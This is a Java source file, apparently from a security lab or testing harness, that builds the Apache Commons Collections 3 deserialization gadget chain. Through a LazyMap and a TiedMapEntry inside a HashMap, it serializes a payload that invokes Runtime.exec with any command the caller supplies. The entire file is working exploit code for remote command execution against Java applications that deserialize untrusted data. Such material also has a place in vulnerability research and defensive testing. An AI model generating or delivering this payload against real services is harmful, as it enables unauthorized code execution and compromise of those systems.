package whorl.lab.attack;

import java.util.HashMap;
import java.util.Map;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/** The chain of commons-collections 3 through a hash map's key, which starts a program. */
public final class Collections3 {
  private Collections3() {}

  public static byte[] command(String... command) throws Exception {
    return chain(
        new ConstantTransformer(Runtime.class),
        new InvokerTransformer(
            "getMethod",
            new Class<?>[] {String.class, Class[].class},
            new Object[] {"getRuntime", new Class<?>[0]}),
        new InvokerTransformer(
            "invoke",
            new Class<?>[] {Object.class, Object[].class},
            new Object[] {null, new Object[0]}),
        new InvokerTransformer("exec", new Class<?>[] {String[].class}, new Object[] {command}));
  }

  public static byte[] chain(Transformer... steps) throws Exception {
    ChainedTransformer chained =
        new ChainedTransformer(new Transformer[] {new ConstantTransformer("x")});
    Map<Object, Object> lazy = LazyMap.decorate(new HashMap<>(), chained);
    Map<Object, Object> map = new HashMap<>();
    map.put(new TiedMapEntry(lazy, "k"), "v");
    lazy.clear();
    Attacker.set(chained, "iTransformers", steps);
    return Attacker.serialized(map);
  }
}
